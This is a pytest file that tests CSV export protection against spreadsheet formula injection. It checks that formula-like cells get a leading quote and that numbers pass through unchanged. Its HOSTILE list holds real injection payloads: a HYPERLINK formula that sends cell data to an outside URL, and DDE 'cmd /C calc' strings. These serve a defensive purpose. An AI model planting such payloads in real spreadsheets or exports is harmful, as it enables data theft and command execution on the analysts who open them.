"""CSV exports cannot attack the analyst: formula-like text cells get a leading ``'``, numbers
and negative numbers stay as they are (report.formulas, ``piao export --format csv``,
``piao sql --csv``)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pyarrow as pa
import pytest

from piao import cli
from report.export import export
from report.formulas import neutralised

HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_leading_quote(text: str) -> None:
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["-5", "-0,5", "-12.5%", "Obiettivo 1 = 100%", "a-b", "-", "", "'=già protetto", 7, -3, -2.5],
)
def test_numbers_negative_numbers_and_plain_text_are_kept(value: object) -> None:
    assert neutralised(value) == value


def test_csv_export_neutralises_text_and_keeps_numbers(tmp_path: Path) -> None:
    table = pa.table(
        {
            "description": [HOSTILE[0], "-5", "Rossi"],
            "weight": [-10, 20, None],
            "due": [dt.date(2024, 3, 31), None, None],
        }
    )
    [path] = export({"objectives": table}, tmp_path / "csv", "csv")
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    assert rows == [
        ["description", "weight", "due"],
        ["'" + HOSTILE[0], "-10", "2024-03-31"],
        ["-5", "20", ""],
        ["Rossi", "", ""],
    ]


def test_sql_csv_neutralises_text_and_keeps_numbers(clean_dir: Path, capsys) -> None:
    query = "select '@SUM(1+1)' as a, -5 as n, '-5' as t, '+39 0532' as phone"
    assert cli.main(["sql", "--data", str(clean_dir), "--csv", query]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows == [["a", "n", "t", "phone"], ["'@SUM(1+1)", "-5", "-5", "'+39 0532"]]
